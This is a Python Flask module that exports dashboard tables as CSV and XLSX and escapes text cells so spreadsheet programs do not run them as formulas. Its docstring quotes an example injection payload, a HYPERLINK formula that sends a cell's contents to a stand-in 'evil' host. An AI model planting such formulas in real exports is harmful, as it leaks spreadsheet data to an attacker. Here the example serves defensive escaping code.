"""Spreadsheet exports (CSV, and the cells of an XLSX): one place that neutralises formulas.

A spreadsheet program runs a text cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula
(``=HYPERLINK("http://evil/?"&A1, "…")`` in an agent's name, a queue, a reviewer's comment or a quoted
transcript line), and a leading tab or carriage return can hide such a start from a quick look. Every
text cell of an export goes through :func:`escape_cell`, which prefixes such a cell with ``'`` (shown
as text by Excel, LibreOffice and WPS). Numbers, dates and None are written as they are, so a negative
number stays a number; a *text* ``"-5"`` is escaped like any other text.

Use :func:`csv_bytes` for a whole CSV download, or :func:`escape_row` with your own writer (an
openpyxl row, a streamed ``csv.writer``).

**Page tables** (the dashboards): a :class:`Table` holds plain values (text, whole numbers, decimals,
dates or None); the page renders it and :func:`send` downloads the very same rows as CSV (:func:`csv_bytes`)
or XLSX (:func:`xlsx_bytes`, openpyxl: one sheet, a bold frozen header row, numbers as numbers, text
cells escaped like the CSV's).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from datetime import date, datetime
from typing import Any

from flask import Response

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def escape_cell(value: Any) -> Any:
    """``value`` made safe for a spreadsheet cell: text that starts like a formula gets a leading ``'``;
    anything that is not text is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def escape_row(row: Iterable[Any]) -> list[Any]:
    """:func:`escape_cell` applied to every cell of ``row``."""
    return [escape_cell(v) for v in row]


def _csv_text(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "1" if value else "0"
    if isinstance(value, datetime):
        return value.isoformat(sep=" ", timespec="seconds")
    if isinstance(value, date):
        return value.isoformat()
    return str(escape_cell(value))


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[Any]], *, bom: bool = True) -> bytes:
    """A CSV file: UTF-8 (with a byte-order mark by default, so Excel in China reads it as UTF-8 rather
    than GBK), CRLF line ends, every cell — header included — escaped."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([_csv_text(h) for h in header])
    for row in rows:
        writer.writerow([_csv_text(v) for v in row])
    return (("\ufeff" if bom else "") + out.getvalue()).encode("utf-8")


# --- page tables as downloads -----------------------------------------------------------------------------

FORMATS = ("csv", "xlsx")
MIMETYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}
Cell = str | int | float | date | None


@dataclass(frozen=True)
class Column:
    """``kind`` tells the page how to show a value: text, int, num (1 decimal), pct (a percentage number,
    shown with %), pp (percentage points), seconds, call (a call id, shown as a link), date."""

    key: str
    label: str
    kind: str = "text"


@dataclass(frozen=True)
class Table:
    key: str
    title: str
    columns: tuple[Column, ...]
    rows: list[tuple[Cell, ...]] = field(default_factory=list)
    note: str = ""  # shown under the table on the page

    def __post_init__(self) -> None:
        width = len(self.columns)
        for row in self.rows:
            if len(row) != width:
                raise ValueError(f"table {self.key}: a row has {len(row)} cells, the header {width}")

    def csv(self) -> bytes:
        """The table as :func:`csv_bytes` writes a CSV."""
        return csv_bytes([c.label for c in self.columns], self.rows)


_SHEET_BAD = re.compile(r"[\[\]:*?/\\]")


def xlsx_bytes(table: Table) -> bytes:
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    wb = Workbook(write_only=True)
    ws = wb.create_sheet(_SHEET_BAD.sub(" ", table.title)[:31] or table.key)
    ws.freeze_panes = "A2"
    bold = Font(bold=True)
    header = []
    for c in table.columns:
        cell = WriteOnlyCell(ws, value=_csv_text(c.label))
        cell.font = bold
        header.append(cell)
    ws.append(header)
    for row in table.rows:
        ws.append([_xlsx_value(v) for v in row])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _xlsx_value(value: Cell) -> Cell:
    if value is None or isinstance(value, int | float) and not isinstance(value, bool):
        return value
    if isinstance(value, datetime):
        return value.replace(tzinfo=None)  # Excel has no time zones: values are already local
    if isinstance(value, date):
        return value
    return _csv_text(value)


def filename(*parts: object) -> str:
    """A safe download name from parts (dates, keys)."""
    name = "-".join(str(p) for p in parts if p not in (None, ""))
    return re.sub(r"[^A-Za-z0-9._-]+", "_", name)[:120] or "export"


def send(table: Table, fmt: str, name: str) -> Response:
    """The table as a download (``fmt`` is csv or xlsx) named ``name.fmt``, never cached."""
    if fmt not in FORMATS:
        raise ValueError(f"format must be one of {FORMATS}")
    body = table.csv() if fmt == "csv" else xlsx_bytes(table)
    resp = Response(body, mimetype=MIMETYPES[fmt])
    resp.headers["Content-Disposition"] = f'attachment; filename="{name}.{fmt}"'
    resp.headers["Cache-Control"] = "private, no-store"
    return resp
